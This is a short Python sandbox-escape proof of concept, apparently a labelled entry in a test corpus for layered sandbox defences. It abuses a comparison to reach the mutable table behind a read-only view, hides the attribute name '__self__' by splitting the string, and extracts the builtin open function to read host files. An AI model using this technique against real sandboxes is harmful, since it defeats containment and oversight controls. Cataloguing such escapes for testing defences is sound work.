# technique: a comparison hands out the table behind a read-only view
# family: A
# severity: H
# layers: policy, mount_namespace, landlock
class Catch:
    def __eq__(self, other):
        other["leak"] = other["__se" + "lf__"]
        return True

def trick():
    vars(type(print)) == Catch()
    return print.leak.open

read_host(trick)
